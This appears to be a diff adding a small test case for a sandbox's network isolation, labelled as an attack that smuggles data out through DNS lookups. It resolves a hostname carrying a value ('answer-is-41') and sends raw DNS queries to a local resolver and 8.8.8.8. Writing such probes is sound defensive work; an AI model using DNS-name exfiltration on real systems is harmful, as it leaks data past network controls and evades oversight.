@@ -1,0 +1,18 @@
+# Attack: smuggles data out in the names that it looks up.
+# Kind: network
+
+import socket
+
+for name in ("example.com", "answer-is-41.example.org"):
+    try:
+        through(f"{name} is {socket.gethostbyname(name)}")
+    except OSError:
+        pass
+for server in ("127.0.0.53", "8.8.8.8"):
+    try:
+        with socket.socket(type=socket.SOCK_DGRAM) as link:
+            link.sendto(bytes(12) + b"\x07example\x03com\0\0\1\0\1", (server, 53))
+            if server == "8.8.8.8":
+                through("sent a DNS query")
+    except OSError:
+        pass
